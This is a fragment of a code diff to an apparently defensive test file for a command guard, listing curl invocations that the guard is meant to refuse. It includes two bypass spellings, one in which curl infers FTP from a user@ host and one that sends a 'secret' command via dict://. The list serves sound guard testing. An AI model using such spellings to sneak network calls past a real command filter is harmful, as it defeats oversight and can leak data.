@@ -20,7 +20,7 @@ from muninn.guards.leak_gate import LeakGate
 from muninn.guards.redact import Redactor
 
 # --- 1. the verify command guard ------------------------------------------------------------------------
-# Bash forms and tool spellings not in evals/guard_cases.py; every one must be refused.
+# Bash forms and tool spellings not in evals/lab/guard_cases.py; every one must be refused.
 GUARD_REFUSED = [
     "curl -s u@ftp.example.com",                          # curl guesses FTP from the host after user@
     "curl -s u@dict.example.org/d:secret",                # dict:// sends a command to the server
